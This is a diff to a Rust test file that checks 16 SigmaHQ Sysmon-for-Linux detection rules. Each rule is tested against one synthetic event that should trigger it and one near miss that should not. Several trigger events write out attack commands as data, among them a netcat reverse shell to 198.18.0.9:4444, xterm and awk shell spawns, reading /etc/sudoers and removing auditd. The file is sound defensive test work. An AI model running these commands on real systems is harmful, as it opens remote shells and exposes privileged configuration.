@@ -303,7 +303,7 @@ fn unsupported_constructs_are_rejected_naming_file_and_construct() {
     );
     assert!(e.contains("logsource.service"), "{e}");
     let e = rejected(
-        "title: t\nlogsource: {category: process_creation}\ndetection: {sel: [x], condition: sel}\n",
+        "title: t\nlogsource: {category: image_load}\ndetection: {sel: [x], condition: sel}\n",
     );
     assert!(e.contains("logsource.category"), "{e}");
     let e = rejected("title: t\ncorrelation: {type: event_count}\n");
@@ -869,6 +869,196 @@ fn every_sigmahq_cisco_rule_loads_and_fires_on_its_record() {
     assert!(!fires_both(
         clear,
         "<13>Nov 22 10:00:00 h bash[1]: clear logging"
+    ));
+    let data = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/loghub/");
+    for f in [
+        "Linux_2k.log",
+        "OpenSSH_2k.log",
+        "HDFS_2k.log",
+        "Apache_2k.log",
+    ] {
+        for line in std::fs::read_to_string(format!("{data}{f}"))
+            .unwrap()
+            .lines()
+        {
+            let e = parse(line.as_bytes(), &ParseOptions::default());
+            for r in &rules {
+                assert!(!r.matches(&e), "{} fires on {f}: {line}", r.file);
+            }
+        }
+    }
+}
+
+/// An event as Sysmon for Linux writes it to syslog: the Windows event XML schema, with `id` as
+/// its EventID and `data` as its `<Data Name=...>` fields.
+fn sysmon(id: u32, data: &[(&str, &str)]) -> String {
+    let mut fields = String::new();
+    for (name, value) in [
+        ("RuleName", "-"),
+        ("UtcTime", "2026-11-22 10:00:00.000"),
+        ("ProcessGuid", "{4f3a1c2b-0000-0000-0000-000000000001}"),
+        ("ProcessId", "1234"),
+    ]
+    .iter()
+    .chain(data)
+    {
+        fields.push_str(&format!("<Data Name=\"{name}\">{value}</Data>"));
+    }
+    format!(
+        "<14>Nov 22 10:00:00 web1 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" \
+         Guid=\"{{ff032593-a8d3-4f13-b0d6-01fc615a0f97}}\"/><EventID>{id}</EventID><Version>5\
+         </Version><Level>4</Level><Task>{id}</Task><Opcode>0</Opcode><Keywords>\
+         0x8000000000000000</Keywords><TimeCreated SystemTime=\"2026-11-22T10:00:00.000000000Z\"/>\
+         <EventRecordID>42</EventRecordID><Correlation/><Execution ProcessID=\"998\" \
+         ThreadID=\"998\"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer>\
+         <Security UserId=\"0\"/></System><EventData>{fields}<Data Name=\"User\">root</Data>\
+         </EventData></Event>"
+    )
+}
+
+/// Every SigmaHQ Sysmon-for-Linux rule shipped in `rules/sigma-linux-sysmon/` (categories
+/// `process_creation`, `network_connection`, `file_event`) loads unchanged and fires on the
+/// event it is written for, not on a near miss, not on another category's event nor on the same
+/// words outside a Sysmon event; none fires on the LogHub samples.
+#[test]
+fn every_sigmahq_sysmon_rule_loads_and_fires_on_its_event() {
+    let dir = Path::new(concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/rules/sigma-linux-sysmon"
+    ));
+    let loaded = load_dir(dir, &LogsourceMap::default());
+    assert!(loaded.errors.is_empty(), "{:#?}", loaded.errors);
+    let rules = loaded.rules;
+    assert_eq!(rules.len(), 16);
+    let exec = |image: &str, cl: &str| {
+        sysmon(
+            1,
+            &[
+                ("Image", image),
+                ("CommandLine", cl),
+                ("CurrentDirectory", "/root"),
+                ("ParentImage", "/usr/bin/bash"),
+            ],
+        )
+    };
+    let cases = [
+        (
+            "file_event_lnx_wget_download_file_in_tmp_dir.yml",
+            sysmon(
+                11,
+                &[("Image", "/usr/bin/wget"), ("TargetFilename", "/tmp/x.sh")],
+            ),
+            sysmon(
+                11,
+                &[("Image", "/usr/bin/wget"), ("TargetFilename", "/root/x.sh")],
+            ),
+        ),
+        (
+            "net_connection_lnx_back_connect_shell_dev.yml",
+            sysmon(
+                3,
+                &[("Image", "/usr/bin/bash"), ("DestinationIp", "198.18.0.9")],
+            ),
+            sysmon(
+                3,
+                &[("Image", "/usr/bin/bash"), ("DestinationIp", "127.0.0.1")],
+            ),
+        ),
+        (
+            "proc_creation_lnx_awk_shell_spawn.yml",
+            exec("/usr/bin/gawk", "gawk BEGIN {system(/bin/sh)}"),
+            exec("/usr/bin/gawk", "gawk {print $1} /etc/passwd"),
+        ),
+        (
+            "proc_creation_lnx_capa_discovery.yml",
+            exec("/usr/sbin/getcap", "getcap -r /"),
+            exec("/usr/sbin/getcap", "getcap /usr/bin/ping"),
+        ),
+        (
+            "proc_creation_lnx_crontab_enumeration.yml",
+            exec("/usr/bin/crontab", "crontab -l"),
+            exec("/usr/bin/crontab", "crontab -e"),
+        ),
+        (
+            "proc_creation_lnx_env_shell_invocation.yml",
+            exec("/usr/bin/env", "env /bin/sh"),
+            exec("/usr/bin/env", "env LANG=C ls"),
+        ),
+        (
+            "proc_creation_lnx_esxcli_vsan_discovery.yml",
+            exec("/bin/esxcli", "esxcli vsan cluster get"),
+            exec("/bin/esxcli", "esxcli network ip interface list"),
+        ),
+        (
+            "proc_creation_lnx_install_root_certificate.yml",
+            exec("/usr/sbin/update-ca-certificates", "update-ca-certificates"),
+            exec("/usr/bin/openssl", "openssl x509 -in ca.pem"),
+        ),
+        (
+            "proc_creation_lnx_netcat_reverse_shell.yml",
+            exec("/usr/bin/nc", "nc 198.18.0.9 4444 -e /bin/sh"),
+            exec("/usr/bin/nc", "nc -zv 198.18.0.9 22"),
+        ),
+        (
+            "proc_creation_lnx_proxy_connection.yml",
+            exec(
+                "/usr/bin/env",
+                "env https_proxy=http://198.18.0.9:3128 curl https://example.org",
+            ),
+            exec("/usr/bin/curl", "curl https://example.org"),
+        ),
+        (
+            "proc_creation_lnx_remove_package.yml",
+            exec("/usr/bin/apt-get", "apt-get remove auditd"),
+            exec("/usr/bin/apt-get", "apt-get install auditd"),
+        ),
+        (
+            "proc_creation_lnx_ssh_shell_execution.yml",
+            exec("/usr/bin/ssh", "ssh localhost /bin/sh"),
+            exec("/usr/bin/ssh", "ssh admin@198.18.0.9 uptime"),
+        ),
+        (
+            "proc_creation_lnx_susp_git_clone.yml",
+            exec(
+                "/usr/bin/git",
+                "git clone https://example.org/x/CVE-2026-0001-poc",
+            ),
+            exec("/usr/bin/git", "git clone https://example.org/x/dotfiles"),
+        ),
+        (
+            "proc_creation_lnx_susp_process_reading_sudoers.yml",
+            exec("/usr/bin/cat", "cat /etc/sudoers"),
+            exec("/usr/bin/cat", "cat /etc/hosts"),
+        ),
+        (
+            "proc_creation_lnx_systemctl_mask_power_settings.yml",
+            exec("/usr/bin/systemctl", "systemctl mask suspend.target"),
+            exec("/usr/bin/systemctl", "systemctl status suspend.target"),
+        ),
+        (
+            "proc_creation_lnx_xterm_reverse_shell.yml",
+            exec("/usr/bin/xterm", "xterm -display 198.18.0.9:1"),
+            exec("/usr/bin/xterm", "xterm -display :0"),
+        ),
+    ];
+    for (file, hit, miss) in &cases {
+        each_fires_on_its_own(&rules, file, hit, miss);
+    }
+    let sudoers = by_file(&rules, "proc_creation_lnx_susp_process_reading_sudoers.yml");
+    // The same fields in another category's event (a file made), or as key=value text.
+    assert!(!fires_both(
+        sudoers,
+        &sysmon(
+            11,
+            &[
+                ("Image", "/usr/bin/cat"),
+                ("CommandLine", "cat /etc/sudoers")
+            ]
+        )
+    ));
+    assert!(!fires_both(
+        sudoers,
+        "<14>Nov 22 10:00:00 web1 app: EventID=1 Image=/usr/bin/cat CommandLine=\"cat /etc/sudoers\""
     ));
     let data = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/loghub/");
     for f in [
